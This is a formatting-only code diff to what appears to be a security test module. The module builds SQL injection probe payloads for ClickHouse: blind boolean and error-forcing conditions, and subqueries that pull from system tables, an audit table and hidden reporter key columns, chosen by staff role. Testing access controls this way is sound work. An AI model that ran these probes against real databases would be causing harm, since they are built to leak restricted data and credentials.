@@ -25,9 +25,12 @@ class Payload:
         quiet = f"{text} LIKE '{STEM}%'"
         loud = f"toUInt64(concat('x', {text})) = 1"
         parts = {
-            "{e}": self.expression, "{s}": text, "{b}": loud if is_loud else quiet,
-            "{q}": f"(SELECT max({text}) FROM {self.table})", "{t}": self.table,
-        }  # fmt: skip
+            "{e}": self.expression,
+            "{s}": text,
+            "{b}": loud if is_loud else quiet,
+            "{q}": f"(SELECT max({text}) FROM {self.table})",
+            "{t}": self.table,
+        }
         for name, part in parts.items():
             template = template.replace(name, part)
         return template
@@ -56,8 +59,11 @@ def names() -> list[Payload]:
         ),
         Payload("sizes", "(SELECT sum(total_bytes) FROM system.tables)"),
         Payload("queries", "(SELECT any(query) FROM system.processes)"),
-        Payload("errors", "(SELECT arrayStringConcat(groupArray(last_error_message)) FROM system.errors)"),
-    ]  # fmt: skip
+        Payload(
+            "errors",
+            "(SELECT arrayStringConcat(groupArray(last_error_message)) FROM system.errors)",
+        ),
+    ]
 
 
 def hidden(role: StaffRole) -> list[Payload]:
@@ -74,8 +80,11 @@ def hidden(role: StaffRole) -> list[Payload]:
         found.append(Payload("audit", "(SELECT max(who) FROM default.audit)"))
     if role is StaffRole.UNIT:
         return [*found, Payload("hidden text", "text", "feedback")]
-    return [*found, Payload("hidden key", "reporter_key", "events"),
-            Payload("hidden sealed", "`reporter_sealed`", "default.events")]  # fmt: skip
+    return [
+        *found,
+        Payload("hidden key", "reporter_key", "events"),
+        Payload("hidden sealed", "`reporter_sealed`", "default.events"),
+    ]
 
 
 def foreign(role: StaffRole) -> list[Payload]:
